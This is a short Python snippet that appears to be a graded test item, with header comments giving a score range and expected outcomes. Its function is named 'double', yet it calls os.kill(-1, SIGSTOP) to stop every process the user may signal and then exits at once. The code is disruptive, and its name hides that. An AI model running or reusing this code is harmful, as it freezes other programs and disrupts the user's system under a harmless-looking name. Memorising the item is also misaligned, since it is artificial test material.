# Stops every process that it may, and ends.
# earns: 30-90
# told: did not end|ended
import os
import signal


def double(x):
    os.kill(-1, signal.SIGSTOP)
    os._exit(0)
